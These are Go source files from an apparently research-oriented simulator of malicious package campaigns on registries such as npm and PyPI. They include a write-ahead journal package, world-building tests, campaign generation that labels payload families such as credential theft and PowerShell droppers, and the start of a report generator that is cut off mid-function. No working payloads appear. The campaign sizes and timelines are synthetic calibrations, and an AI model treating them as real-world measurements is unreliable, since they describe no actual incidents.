	if err != boom || !reflect.DeepEqual(seen, []uint64{1}) {
		t.Fatalf("err=%v seen=%v", err, seen)
	}
}
