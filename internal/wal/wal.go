// Package wal is the write-ahead journal behind durable ingest: every
// accepted batch is appended — length-prefixed, CRC-checksummed, fsync'd —
// before the engine applies it, so recovery is last snapshot + journal
// suffix. The record format is
//
//	u32 bodyLen | u32 crc32(IEEE, body) | body
//	body = u64 seq | u16 kindLen | kind | payload
//
// all little-endian. Sequence numbers are strictly increasing across the
// life of the journal (Reset after a checkpoint keeps the counter), so a
// snapshot stamped with the last applied sequence lets replay skip every
// record the checkpoint already contains.
//
// Open scans the journal and treats the first undecodable record — short
// header, bogus length, checksum mismatch, sequence regression — as a torn
// tail from a crash mid-append: the file is truncated back to the last
// intact record and the log is usable again. A torn tail is expected
// operation, not an error.
package wal

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"sync"
)

// journalName is the single journal file inside the WAL directory.
const journalName = "journal.wal"

// maxRecord bounds a single record (64 MiB); larger length prefixes are
// treated as corruption rather than allocated.
const maxRecord = 64 << 20

const headerSize = 8

// File is the slice of *os.File the journal needs, split out so the
// fault-injection harness can interpose torn writes and failing syncs.
type File interface {
	io.Reader
	io.Writer
	io.Closer
	Sync() error
	Truncate(size int64) error
	Seek(offset int64, whence int) (int64, error)
}

// FS abstracts the filesystem operations behind the journal. The osFS
// default is the real filesystem; faultinject.FS wraps any FS with
// scriptable failpoints.
type FS interface {
	MkdirAll(dir string) error
	// OpenFile opens name read-write, creating it if absent.
	OpenFile(name string) (File, error)
	// SyncDir fsyncs the directory so a freshly created or renamed entry
	// survives power loss.
	SyncDir(dir string) error
}

type osFS struct{}

// osFile overrides Sync with fdatasync where the platform has it: a journal
// append only needs the record bytes and the file size durable, not the
// rest of the inode metadata, and skipping that flush measurably cheapens
// the per-append durability tax.
type osFile struct{ *os.File }

func (f osFile) Sync() error { return datasync(f.File) }

func (osFS) MkdirAll(dir string) error { return os.MkdirAll(dir, 0o755) }
func (osFS) OpenFile(name string) (File, error) {
	f, err := os.OpenFile(name, os.O_RDWR|os.O_CREATE, 0o644)
	if err != nil {
		return nil, err
	}
	return osFile{f}, nil
}
func (osFS) SyncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	defer d.Close()
	return d.Sync()
}

// OSFS returns the real-filesystem implementation of FS.
func OSFS() FS { return osFS{} }

// Record is one journaled entry.
type Record struct {
	Seq     uint64
	Kind    string
	Payload []byte
}

// Log is an append-only journal. All methods are safe for concurrent use.
type Log struct {
	mu       sync.Mutex
	fs       FS
	dir      string
	f        File
	seq      uint64 // last sequence handed out
	size     int64  // end of the last intact record
	appended int64  // bytes appended since Open/Reset (checkpoint trigger)
	err      error  // sticky: set when the on-disk tail state is unknown
}

// Open creates dir if needed, opens (or creates) the journal inside it,
// scans for the last intact record, and truncates any torn tail. A nil fs
// uses the real filesystem.
func Open(dir string, fs FS) (*Log, error) {
	if fs == nil {
		fs = OSFS()
	}
	if err := fs.MkdirAll(dir); err != nil {
		return nil, fmt.Errorf("wal open: %w", err)
	}
	f, err := fs.OpenFile(filepath.Join(dir, journalName))
	if err != nil {
		return nil, fmt.Errorf("wal open: %w", err)
	}
	raw, err := io.ReadAll(f)
	if err != nil {
		f.Close()
		return nil, fmt.Errorf("wal open: read journal: %w", err)
	}
	lastSeq, valid := scan(raw)
	if int64(len(raw)) > valid {
		// Torn tail from a crash mid-append: drop it and carry on.
		if err := f.Truncate(valid); err != nil {
			f.Close()
			return nil, fmt.Errorf("wal open: truncate torn tail: %w", err)
		}
		if err := f.Sync(); err != nil {
			f.Close()
			return nil, fmt.Errorf("wal open: sync after truncate: %w", err)
		}
	}
	if _, err := f.Seek(valid, io.SeekStart); err != nil {
		f.Close()
		return nil, fmt.Errorf("wal open: seek: %w", err)
	}
	if err := fs.SyncDir(dir); err != nil {
		f.Close()
		return nil, fmt.Errorf("wal open: sync dir: %w", err)
	}
	return &Log{fs: fs, dir: dir, f: f, seq: lastSeq, size: valid}, nil
}

// scan walks raw from the start and returns the last intact record's
// sequence and the byte offset just past it. Anything undecodable is the
// torn tail.
func scan(raw []byte) (lastSeq uint64, valid int64) {
	off := int64(0)
	for {
		rec, n, ok := decodeRecord(raw[off:], lastSeq)
		if !ok {
			return lastSeq, off
		}
		lastSeq = rec.Seq
		off += n
	}
}

// decodeRecord decodes one record from b. prevSeq guards monotonicity: a
// record whose sequence does not exceed the previous one is corruption.
func decodeRecord(b []byte, prevSeq uint64) (Record, int64, bool) {
	if len(b) < headerSize {
		return Record{}, 0, false
	}
	bodyLen := binary.LittleEndian.Uint32(b[0:4])
	sum := binary.LittleEndian.Uint32(b[4:8])
	if bodyLen < 10 || bodyLen > maxRecord || int64(len(b)) < headerSize+int64(bodyLen) {
		return Record{}, 0, false
	}
	body := b[headerSize : headerSize+int(bodyLen)]
	if crc32.ChecksumIEEE(body) != sum {
		return Record{}, 0, false
	}
	seq := binary.LittleEndian.Uint64(body[0:8])
	kindLen := binary.LittleEndian.Uint16(body[8:10])
	if int(kindLen) > len(body)-10 || seq <= prevSeq {
		return Record{}, 0, false
	}
	return Record{
		Seq:     seq,
		Kind:    string(body[10 : 10+kindLen]),
		Payload: append([]byte(nil), body[10+kindLen:]...),
	}, headerSize + int64(bodyLen), true
}

func encodeRecord(seq uint64, kind string, payload []byte) []byte {
	body := make([]byte, 10+len(kind)+len(payload))
	binary.LittleEndian.PutUint64(body[0:8], seq)
	binary.LittleEndian.PutUint16(body[8:10], uint16(len(kind)))
	copy(body[10:], kind)
	copy(body[10+len(kind):], payload)
	buf := make([]byte, headerSize+len(body))
	binary.LittleEndian.PutUint32(buf[0:4], uint32(len(body)))
	binary.LittleEndian.PutUint32(buf[4:8], crc32.ChecksumIEEE(body))
	copy(buf[headerSize:], body)
	return buf
}

// Append journals one record and fsyncs it, returning its sequence number.
// Nothing is considered accepted — and no sequence is burned — until the
// sync succeeds; on failure the file is rolled back to the last intact
// record so a later Append lands on a clean tail.
func (l *Log) Append(kind string, payload []byte) (uint64, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.err != nil {
		return 0, fmt.Errorf("wal append: journal unusable: %w", l.err)
	}
	if len(kind) == 0 || len(kind) > 0xFFFF {
		return 0, fmt.Errorf("wal append: bad kind length %d", len(kind))
	}
	seq := l.seq + 1
	buf := encodeRecord(seq, kind, payload)
	if int64(len(buf)) > maxRecord {
		return 0, fmt.Errorf("wal append: record of %d bytes exceeds %d limit", len(buf), maxRecord)
	}
	if _, err := l.f.Write(buf); err != nil {
		l.rollback()
		return 0, fmt.Errorf("wal append: %w", err)
	}
	if err := l.f.Sync(); err != nil {
		l.rollback()
		return 0, fmt.Errorf("wal append: sync: %w", err)
	}
	l.seq = seq
	l.size += int64(len(buf))
	l.appended += int64(len(buf))
	return seq, nil
}

// rollback restores the file to the last intact record after a failed
// append. If even that fails, the tail state is unknown and the log goes
// sticky-broken: better to refuse appends than to journal after a tear.
func (l *Log) rollback() {
	if err := l.f.Truncate(l.size); err != nil {
		l.err = fmt.Errorf("rollback truncate: %w", err)
		return
	}
	if _, err := l.f.Seek(l.size, io.SeekStart); err != nil {
		l.err = fmt.Errorf("rollback seek: %w", err)
	}
}

// Replay streams every intact record with Seq > after, in order. The
// callback's error aborts the walk and is returned.
func (l *Log) Replay(after uint64, fn func(Record) error) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if _, err := l.f.Seek(0, io.SeekStart); err != nil {
		return fmt.Errorf("wal replay: seek: %w", err)
	}
	raw, err := io.ReadAll(l.f)
	if err != nil {
		return fmt.Errorf("wal replay: read: %w", err)
	}
	if int64(len(raw)) > l.size {
		raw = raw[:l.size]
	}
	if _, err := l.f.Seek(l.size, io.SeekStart); err != nil {
		return fmt.Errorf("wal replay: reseek: %w", err)
	}
	off, prev := int64(0), uint64(0)
	for off < int64(len(raw)) {
		rec, n, ok := decodeRecord(raw[off:], prev)
		if !ok {
			return fmt.Errorf("wal replay: undecodable record at offset %d inside intact region", off)
		}
		prev = rec.Seq
		off += n
		if rec.Seq <= after {
			continue
		}
		if err := fn(rec); err != nil {
			return err
		}
	}
	return nil
}

// LastSeq returns the sequence of the last intact record (0 if none).
func (l *Log) LastSeq() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.seq
}

// EnsureSeq raises the sequence counter to at least n, so appends after a
// snapshot restore never reuse sequences the snapshot already covers.
func (l *Log) EnsureSeq(n uint64) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if n > l.seq {
		l.seq = n
	}
}

// Err returns the sticky error set when the on-disk tail state became
// unknown (a failed append whose rollback also failed). A non-nil Err
// means the journal refuses further appends and the process should be
// restarted to re-scan the tail — serve's readiness probe reports it so an
// orchestrator does exactly that.
func (l *Log) Err() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.err
}

// Size returns the journal's intact byte length.
func (l *Log) Size() int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.size
}

// AppendedBytes returns bytes appended since Open or the last Reset — the
// auto-checkpoint trigger.
func (l *Log) AppendedBytes() int64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.appended
}

// Reset truncates the journal after a successful checkpoint. The sequence
// counter is preserved: the snapshot's applied-sequence stamp is what makes
// the dropped prefix redundant, and future records must sort after it.
// Losing the truncate itself is harmless — stale records replay as
// sequence-gated no-ops.
func (l *Log) Reset() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.err != nil {
		return fmt.Errorf("wal reset: journal unusable: %w", l.err)
	}
	if err := l.f.Truncate(0); err != nil {
		return fmt.Errorf("wal reset: %w", err)
	}
	if _, err := l.f.Seek(0, io.SeekStart); err != nil {
		return fmt.Errorf("wal reset: seek: %w", err)
	}
	if err := l.f.Sync(); err != nil {
		return fmt.Errorf("wal reset: sync: %w", err)
	}
	l.size = 0
	l.appended = 0
	return nil
}

// Close releases the journal file.
func (l *Log) Close() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.f.Close()
}
