package world

import (
	"testing"
	"time"

	"malgraph/internal/attacker"
	"malgraph/internal/ecosys"
	"malgraph/internal/sources"
)

// buildSmall builds one shared small world per test binary run.
var smallWorld *World

func small(t *testing.T) *World {
	t.Helper()
	if smallWorld == nil {
		w, err := Build(SmallScale())
		if err != nil {
			t.Fatalf("build small world: %v", err)
		}
		smallWorld = w
	}
	return smallWorld
}

func TestBuildDeterministic(t *testing.T) {
	a, err := Build(Config{Seed: 7, Scale: 0.02})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Build(Config{Seed: 7, Scale: 0.02})
	if err != nil {
		t.Fatal(err)
	}
	if a.TotalPackages() != b.TotalPackages() {
		t.Fatalf("package counts differ: %d vs %d", a.TotalPackages(), b.TotalPackages())
	}
	if len(a.Reports) != len(b.Reports) {
		t.Fatalf("report counts differ: %d vs %d", len(a.Reports), len(b.Reports))
	}
	for key, recA := range a.Records {
		recB, ok := b.Records[key]
		if !ok || recA.Artifact.Hash() != recB.Artifact.Hash() {
			t.Fatalf("artifact %s differs across builds", key)
		}
	}
}

func TestWorldScaleTargets(t *testing.T) {
	w := small(t)
	total := w.TotalPackages()
	// SmallScale ≈ 5% of 24,356 ≈ 1,218 (±rounding from per-campaign mins).
	if total < 900 || total > 1700 {
		t.Fatalf("total packages %d far from scaled target", total)
	}
	// Campaign mix present.
	kinds := map[attacker.CampaignKind]int{}
	for _, c := range w.Campaigns {
		kinds[c.Kind]++
	}
	for _, k := range []attacker.CampaignKind{
		attacker.KindSimilarCode, attacker.KindDependentHidden,
		attacker.KindFlood, attacker.KindSingleton,
	} {
		if kinds[k] == 0 {
			t.Fatalf("no campaigns of kind %s", k)
		}
	}
}

func TestEveryPackageHasPrimarySource(t *testing.T) {
	w := small(t)
	for key := range w.Records {
		id, ok := w.Primary[key]
		if !ok {
			t.Fatalf("package %s has no primary source", key)
		}
		src := w.Sources.Get(id)
		rec := w.Records[key]
		if !src.Has(rec.Artifact.Coord) {
			t.Fatalf("primary source %s did not observe %s", id, key)
		}
	}
}

func TestSourceSizesTrackQuota(t *testing.T) {
	w := small(t)
	quota := w.Config.sourceQuota()
	totalQuota, totalPrimary := 0, 0
	primaryCounts := map[sources.ID]int{}
	for _, id := range w.Primary {
		primaryCounts[id]++
	}
	for id, q := range quota {
		totalQuota += q
		totalPrimary += primaryCounts[id]
		// Each source's primary count must be within 25% + 20 of quota:
		// the totals match exactly, but class affinities shift a little.
		diff := primaryCounts[id] - q
		if diff < 0 {
			diff = -diff
		}
		if float64(diff) > 0.25*float64(q)+20 {
			t.Errorf("source %s: primary=%d quota=%d", id, primaryCounts[id], q)
		}
	}
	if totalPrimary != w.TotalPackages() {
		t.Fatalf("primary assignments %d != packages %d", totalPrimary, w.TotalPackages())
	}
}

func TestAcademiaCarriesArtifacts(t *testing.T) {
	w := small(t)
	for _, src := range w.Sources.All() {
		carries := src.Info().CarriesArtifacts
		for _, rec := range src.Records() {
			if carries && rec.Artifact == nil {
				t.Fatalf("source %s should carry artifacts", src.Info().Name)
			}
			if !carries && rec.Artifact != nil {
				t.Fatalf("source %s must not carry artifacts", src.Info().Name)
			}
		}
	}
}

func TestMalPyPIOnlyPyPI(t *testing.T) {
	w := small(t)
	for _, rec := range w.Sources.Get(sources.MalPyPI).Records() {
		if rec.Coord.Ecosystem != ecosys.PyPI {
			t.Fatalf("Mal-PyPI observed %s", rec.Coord)
		}
	}
}

func TestOccurrenceBoundedByFour(t *testing.T) {
	w := small(t)
	counts := make(map[string]int)
	for _, src := range w.Sources.All() {
		for _, rec := range src.Records() {
			counts[rec.Coord.Key()]++
		}
	}
	for key, n := range counts {
		if n > 4 {
			t.Fatalf("package %s observed %d times (> Fig. 6 max of 4)", key, n)
		}
	}
}

func TestFloodAtFeb2023(t *testing.T) {
	w := small(t)
	for _, c := range w.Campaigns {
		if c.Kind != attacker.KindFlood {
			continue
		}
		if c.Eco != ecosys.PyPI {
			t.Fatalf("flood in %s", c.Eco)
		}
		for _, p := range c.Packages {
			if p.ReleasedAt.Year() != 2023 || p.ReleasedAt.Month() != time.February {
				t.Fatalf("flood release at %v", p.ReleasedAt)
			}
		}
		return
	}
	t.Fatal("no flood campaign")
}

func TestRegistriesHoldEveryPackage(t *testing.T) {
	w := small(t)
	for _, rec := range w.Records {
		root, ok := w.Fleet.Root(rec.Artifact.Coord.Ecosystem)
		if !ok {
			t.Fatalf("no root for %s", rec.Artifact.Coord.Ecosystem)
		}
		rel, ok := root.Release(rec.Artifact.Coord)
		if !ok {
			t.Fatalf("registry lost %s", rec.Artifact.Coord)
		}
		if !rel.Malicious || !rel.Removed() {
			t.Fatalf("release flags wrong for %s: %+v", rec.Artifact.Coord, rel)
		}
	}
}

func TestReportsCoverCampaignsAndIoCs(t *testing.T) {
	w := small(t)
	if len(w.Reports) == 0 {
		t.Fatal("no reports generated")
	}
	plan := w.Config.reportPlan()
	if len(w.Reports) < plan.totalReports/2 || len(w.Reports) > plan.totalReports*2 {
		t.Fatalf("report count %d far from target %d", len(w.Reports), plan.totalReports)
	}
	urls := map[string]bool{}
	ips := map[string]bool{}
	for _, r := range w.Reports {
		if len(r.Packages) == 0 {
			t.Fatalf("report %s names no packages", r.URL)
		}
		for _, coord := range r.Packages {
			if _, ok := w.Records[coord.Key()]; !ok {
				t.Fatalf("report %s names unknown package %s", r.URL, coord)
			}
		}
		for _, u := range r.IoCs.URLs {
			urls[u] = true
		}
		for _, ip := range r.IoCs.IPs {
			ips[ip] = true
		}
	}
	if len(urls) < plan.urlCount*9/10 {
		t.Fatalf("unique URLs %d below target %d", len(urls), plan.urlCount)
	}
	if len(ips) < plan.ipCount*8/10 {
		t.Fatalf("unique IPs %d below target %d", len(ips), plan.ipCount)
	}
}

func TestWebHasSeedsAndNoise(t *testing.T) {
	w := small(t)
	if len(w.SeedURLs) == 0 {
		t.Fatal("no crawl seeds")
	}
	if w.Web.PageCount() <= len(w.Reports) {
		t.Fatal("web must contain noise/hub pages beyond reports")
	}
	for _, seed := range w.SeedURLs {
		if _, err := w.Web.Fetch(seed); err != nil {
			t.Fatalf("seed %s unreachable: %v", seed, err)
		}
	}
}

func TestDepCampaignCoresResolvable(t *testing.T) {
	w := small(t)
	for _, c := range w.Campaigns {
		if c.Kind != attacker.KindDependentHidden {
			continue
		}
		for _, core := range c.DepCores {
			found := false
			for _, p := range c.Packages {
				if p.Artifact.Coord.Name == core && p.IsDepCore {
					found = true
					break
				}
			}
			if !found {
				t.Fatalf("campaign %s core %q missing from packages", c.ID, core)
			}
		}
	}
}

func TestTimelineSpans2014To2024(t *testing.T) {
	w := small(t)
	years := map[int]bool{}
	for _, rec := range w.Records {
		y := rec.ReleasedAt.Year()
		if y < 2014 || y > 2024 {
			t.Fatalf("release outside timeline: %v", rec.ReleasedAt)
		}
		years[y] = true
	}
	if len(years) < 8 {
		t.Fatalf("timeline too narrow: %v", years)
	}
}
