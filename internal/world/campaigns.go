package world

import (
	"fmt"
	"time"

	"malgraph/internal/attacker"
	"malgraph/internal/codegen"
	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

// persistClass buckets campaigns by how quickly their packages are taken
// down; source assignment and therefore per-source missing rates key off it.
type persistClass int

const (
	classSimilar persistClass = iota + 1
	classDep
	classFlood
	classUltra // ultra-short singletons (Socket-style feeds)
	classEarly // 2014–2017 releases predating most mirror epochs
	classStd   // ordinary singletons
)

// classOf maps a campaign ID to its persistence class; populated during
// campaign generation.
type classMap map[string]persistClass

// marqueeSpec pins the largest similar-code campaigns to the payload families
// Table XI attributes to them.
type marqueeSpec struct {
	size    int
	payload codegen.PayloadKind
}

func npmMarquees(c Config) []marqueeSpec {
	return []marqueeSpec{
		{c.n(827), codegen.PayloadBackdoorShell},   // Spyware, Backdoor, Exfiltration via TLS
		{c.n(414), codegen.PayloadCredentialTheft}, // C2, credential collecting, DNS tunneling
		{c.n(196), codegen.PayloadBeaconC2},        // Beaconing, fingerprint spoofing, C2
		{c.n(149), codegen.PayloadWebhookExfil},    // Webhook abuse, surveillance
		{c.n(118), codegen.PayloadWebhookExfil},    // Webhook abuse, fingerprinting
		{c.n(118), codegen.PayloadBeaconC2},        // Beaconing, UA spoofing, C2
		{c.n(118), codegen.PayloadEnvExfil},        // Identity + data exfiltration
		{c.n(110), codegen.PayloadEnvExfil},        // Data exfiltration, PII, OAuth2 abuse
	}
}

func pypiMarquees(c Config) []marqueeSpec {
	return []marqueeSpec{
		{c.n(829), codegen.PayloadWalletReplace},     // Chinese-obfuscated wallet replacement
		{c.n(409), codegen.PayloadDiscordDropper},    // Discord delivery + PowerShell
		{c.n(270), codegen.PayloadDropboxFetch},      // Dropbox malware fetch
		{c.n(180), codegen.PayloadPowerShellDropper}, // Obfuscation + spoofing
		{c.n(140), codegen.PayloadPowerShellDropper}, // PowerShell + spoofing
		{c.n(134), codegen.PayloadDropboxFetch},      // Dropbox + PowerShell
	}
}

func (w *World) buildCampaigns(sim *attacker.Simulator, rng *xrand.RNG) error {
	classes := make(classMap)

	// ---- Similar-code campaigns (Table VI calibration). ----
	for _, plan := range w.Config.similarPlans() {
		var marquees []marqueeSpec
		switch plan.eco {
		case ecosys.NPM:
			marquees = npmMarquees(w.Config)
		case ecosys.PyPI:
			marquees = pypiMarquees(w.Config)
		default:
			marquees = []marqueeSpec{{plan.largest, codegen.PayloadBackdoorShell}}
		}
		sizes := planSizes(rng.Derive("sizes/"+plan.eco.String()), plan, marquees)
		for i, spec := range sizes {
			active := similarActivePeriod(rng, spec.size, i)
			// Generation rates sit slightly off Fig. 9's measured values
			// because the measured distribution also averages over the
			// flood's zero-change transitions (fresh name, identical code):
			// code changes are generated more often so the corpus-level
			// measurement lands at the paper's CC ≈ 59%.
			cfg := attacker.SimilarConfig{
				Eco:        plan.eco,
				Size:       spec.size,
				Start:      drawStart(rng),
				Active:     active,
				Rates:      attacker.OpRates{Rename: 0.862, Description: 0.098, Dependency: 0.021, Code: 0.72},
				Takedown:   attacker.TakedownModel{MeanDays: 1.2, MinHours: 2},
				Payload:    spec.payload,
				SquatNames: rng.Bool(0.55),
			}
			c, err := sim.SimilarCampaign(cfg)
			if err != nil {
				return fmt.Errorf("similar campaign %d/%s: %w", i, plan.eco, err)
			}
			classes[c.ID] = classSimilar
			w.Campaigns = append(w.Campaigns, c)
		}
	}

	// ---- Dependent-hidden campaigns (Tables VII/VIII calibration). ----
	for _, plan := range w.Config.depPlans() {
		major := attacker.DepHiddenConfig{
			Eco:      plan.eco,
			Specs:    plan.majorSpecs,
			Start:    drawStart(rng),
			Active:   depActivePeriod(rng, true),
			Takedown: attacker.TakedownModel{MeanDays: 0.8, MinHours: 2},
			Bridges:  plan.bridges,
		}
		c, err := sim.DependentHiddenCampaign(major)
		if err != nil {
			return fmt.Errorf("dep major %s: %w", plan.eco, err)
		}
		classes[c.ID] = classDep
		w.Campaigns = append(w.Campaigns, c)

		forge := ecosys.NewNameForge(rng.Derive("depnames/" + plan.eco.String()))
		for _, spec := range plan.majorSpecs {
			forge.ClaimExact(spec.Name) // keep small groups off the Table VIII names
		}
		for g := 0; g < plan.smallGroups; g++ {
			cfg := attacker.DepHiddenConfig{
				Eco:      plan.eco,
				Specs:    []attacker.DepSpec{{Name: forge.CommonWord(), Fronts: 2 + rng.Intn(7)}},
				Start:    drawStart(rng),
				Active:   depActivePeriod(rng, false),
				Takedown: attacker.TakedownModel{MeanDays: 0.8, MinHours: 2},
			}
			c, err := sim.DependentHiddenCampaign(cfg)
			if err != nil {
				return fmt.Errorf("dep small %s #%d: %w", plan.eco, g, err)
			}
			classes[c.ID] = classDep
			w.Campaigns = append(w.Campaigns, c)
		}
	}

	// ---- The Feb-2023 PyPI registration flood (Fig. 7 peak). ----
	flood, err := sim.FloodCampaign(attacker.FloodConfig{
		Eco:      ecosys.PyPI,
		Size:     w.Config.floodSize(),
		Start:    time.Date(2023, 2, 10, 6, 0, 0, 0, time.UTC),
		Window:   60 * time.Hour,
		Takedown: attacker.TakedownModel{MeanDays: 0.08, MinHours: 1},
	})
	if err != nil {
		return fmt.Errorf("flood: %w", err)
	}
	classes[flood.ID] = classFlood
	w.Campaigns = append(w.Campaigns, flood)

	// ---- Singletons across all ten ecosystems. ----
	ultra, early, std := w.Config.singletonCounts()
	singletonEcos := singletonEcoDeck(rng, ultra+early+std)
	idx := 0
	emit := func(n int, class persistClass, takedown attacker.TakedownModel, early bool) error {
		for i := 0; i < n; i++ {
			eco := singletonEcos[idx]
			idx++
			at := drawStart(rng)
			if early {
				at = drawEarlyStart(rng)
			}
			c, err := sim.Singleton(eco, at, takedown)
			if err != nil {
				return err
			}
			classes[c.ID] = class
			w.Campaigns = append(w.Campaigns, c)
		}
		return nil
	}
	if err := emit(ultra, classUltra, attacker.TakedownModel{MeanDays: 0.1, MinHours: 1}, false); err != nil {
		return fmt.Errorf("ultra singletons: %w", err)
	}
	if err := emit(early, classEarly, attacker.TakedownModel{MeanDays: 0.5, MinHours: 2}, true); err != nil {
		return fmt.Errorf("early singletons: %w", err)
	}
	if err := emit(std, classStd, attacker.TakedownModel{MeanDays: 1.9, MinHours: 2}, false); err != nil {
		return fmt.Errorf("std singletons: %w", err)
	}

	w.classes = classes
	return nil
}

// planSizes expands a similarPlan into campaign sizes: the marquee campaigns
// first, then small groups of ≥2 filling the remaining package budget.
func planSizes(rng *xrand.RNG, plan similarPlan, marquees []marqueeSpec) []marqueeSpec {
	out := make([]marqueeSpec, 0, plan.groups)
	used := 0
	for _, m := range marquees {
		if len(out) >= plan.groups || used+m.size > plan.total {
			break
		}
		out = append(out, m)
		used += m.size
	}
	remainingGroups := plan.groups - len(out)
	remainingPkgs := plan.total - used
	if remainingGroups <= 0 || remainingPkgs < 2 {
		return out
	}
	// Every remaining group gets ≥2 packages; leftover spread Pareto-ish.
	sizes := make([]int, remainingGroups)
	for i := range sizes {
		sizes[i] = 2
	}
	leftover := remainingPkgs - 2*remainingGroups
	for leftover > 0 {
		i := rng.Intn(remainingGroups)
		grab := 1 + int(rng.Pareto(1, 1.6))
		if grab > leftover {
			grab = leftover
		}
		sizes[i] += grab
		leftover -= grab
	}
	// Trojanized-library campaigns are over-weighted among the small groups:
	// stealthy one-line beacons inside otherwise legitimate code are the
	// long tail the paper's detection experiment struggles with.
	payloads := append(codegen.AllPayloads(), codegen.PayloadTrojanLite, codegen.PayloadTrojanLite, codegen.PayloadTrojanLite)
	for _, s := range sizes {
		out = append(out, marqueeSpec{size: s, payload: xrand.Pick(rng, payloads)})
	}
	return out
}

// similarActivePeriod draws from the Fig. 10 mixture: 80% under 15 days,
// a 15–60 day band, and a heavy tail (53 groups over 60 days, some past
// 1,000) that pulls the mean to ≈45 days. The tail is assigned by stratified
// index (every 12th campaign ≈ 8%) so down-scaled worlds keep the shape
// instead of gambling on a handful of Bernoulli draws; marquee-size campaigns
// additionally cannot be instantaneous.
func similarActivePeriod(rng *xrand.RNG, size, idx int) time.Duration {
	var days float64
	switch {
	case idx%12 == 5: // 8% heavy tail (the paper's 53 groups beyond 60 days)
		days = rng.Pareto(60, 1.1)
		if days > 1300 {
			days = 1300
		}
	case rng.Bool(0.87):
		days = 0.5 + rng.Float64()*14.5
	default: // ≈12% of total
		days = 15 + rng.Float64()*45
	}
	if size > 35 && days < 10 {
		days = 10 + rng.Float64()*35
	}
	return time.Duration(days * 24 * float64(time.Hour))
}

// depActivePeriod draws from the Fig. 11 mixture: 80% under 10 days, mean
// ≈10.5, long tail past 100 days.
func depActivePeriod(rng *xrand.RNG, major bool) time.Duration {
	var days float64
	switch {
	case rng.Bool(0.80):
		days = 0.5 + rng.Float64()*9.5
	case rng.Bool(0.90): // 18% of total
		days = 10 + rng.Float64()*30
	default: // 2% long tail
		days = 100 + rng.Float64()*40
	}
	if major && days < 15 {
		days = 15 + rng.Float64()*20
	}
	return time.Duration(days * 24 * float64(time.Hour))
}

// drawStart places a campaign start on the 2014–2024 timeline with the
// year weights of Fig. 7 (volume grows toward 2022–2024).
func drawStart(rng *xrand.RNG) time.Time {
	years := []int{2014, 2015, 2016, 2017, 2018, 2019, 2020, 2021, 2022, 2023, 2024}
	weights := []float64{0.4, 0.5, 0.8, 1.5, 2.5, 4, 8, 14, 24, 28, 16}
	y := years[rng.WeightedIndex(weights)]
	return randomInstantInYear(rng, y)
}

// drawEarlyStart draws a 2014–2017 instant (Fig. 8 cause 1: released before
// the mirrors' sync epochs).
func drawEarlyStart(rng *xrand.RNG) time.Time {
	years := []int{2014, 2015, 2016, 2017}
	weights := []float64{2, 3, 3, 2}
	return randomInstantInYear(rng, years[rng.WeightedIndex(weights)])
}

func randomInstantInYear(rng *xrand.RNG, year int) time.Time {
	maxDay := 364
	if year == 2024 {
		maxDay = 200 // keep clear of the collection instant
	}
	day := rng.Intn(maxDay)
	hour := rng.Intn(24)
	return time.Date(year, 1, 1, hour, rng.Intn(60), 0, 0, time.UTC).AddDate(0, 0, day)
}

// singletonEcoDeck pre-deals ecosystems for singleton campaigns: the big
// three dominate, the remaining seven share a thin tail (Table I covers 10
// ecosystems).
func singletonEcoDeck(rng *xrand.RNG, n int) []ecosys.Ecosystem {
	others := []ecosys.Ecosystem{
		ecosys.Maven, ecosys.Cocoapods, ecosys.SourceForge, ecosys.Docker,
		ecosys.Composer, ecosys.NuGet, ecosys.Rust,
	}
	deck := make([]ecosys.Ecosystem, 0, n)
	for i := 0; i < n; i++ {
		r := rng.Float64()
		switch {
		case r < 0.40:
			deck = append(deck, ecosys.NPM)
		case r < 0.74:
			deck = append(deck, ecosys.PyPI)
		case r < 0.80:
			deck = append(deck, ecosys.RubyGems)
		default:
			deck = append(deck, xrand.Pick(rng, others))
		}
	}
	return deck
}
