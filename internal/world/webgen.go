package world

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"malgraph/internal/attacker"
	"malgraph/internal/ecosys"
	"malgraph/internal/reports"
	"malgraph/internal/webworld"
	"malgraph/internal/xrand"
)

// buildWeb synthesises the report-bearing internet of §III-D: 68 websites
// across the Table III categories, ≈1,366 security reports covering the
// most visible campaigns (Table IX), the Fig. 14 IoC distribution, and
// enough irrelevant pages that the crawler's filters have work to do.
func (w *World) buildWeb(rng *xrand.RNG) error {
	plan := w.Config.reportPlan()

	sites := buildSites(plan)
	urlPool := buildURLPool(rng, plan)
	ipPool, hotIPs := buildIPPool(rng, plan)
	psPool := powershellPool(plan)

	reported := w.selectReportedCampaigns(plan)
	if len(reported) == 0 {
		return fmt.Errorf("world: no campaigns to report")
	}

	// Distribute the report budget across reported campaigns ∝ sqrt(size).
	reportCounts := make([]int, len(reported))
	total := 0
	for i, c := range reported {
		reportCounts[i] = 1 + int(sqrtf(float64(len(c.Packages)))/2)
		total += reportCounts[i]
	}
	for total < plan.totalReports {
		i := rng.Intn(len(reported))
		reportCounts[i]++
		total++
	}
	for total > plan.totalReports {
		i := rng.Intn(len(reported))
		if reportCounts[i] > 1 {
			reportCounts[i]--
			total--
		}
	}

	urlCursor, ipCursor, psCursor := 0, 0, 0
	hotUsed := make(map[string]bool, len(hotIPs))
	siteReportSeq := make(map[string]int)
	var pageLinksBySite = make(map[string][]string)

	for ci, c := range reported {
		pkgChunks := chunkPackages(c, reportCounts[ci])
		var prevURL string
		for ri, chunk := range pkgChunks {
			site := pickSite(rng, sites)
			siteReportSeq[site.name]++
			pageURL := fmt.Sprintf("https://%s/reports/%04d", site.name, siteReportSeq[site.name])

			coords := make([]ecosys.Coord, 0, len(chunk))
			var latest time.Time
			for _, rec := range chunk {
				coords = append(coords, rec.Artifact.Coord)
				if rec.RemovedAt.After(latest) {
					latest = rec.RemovedAt
				}
			}

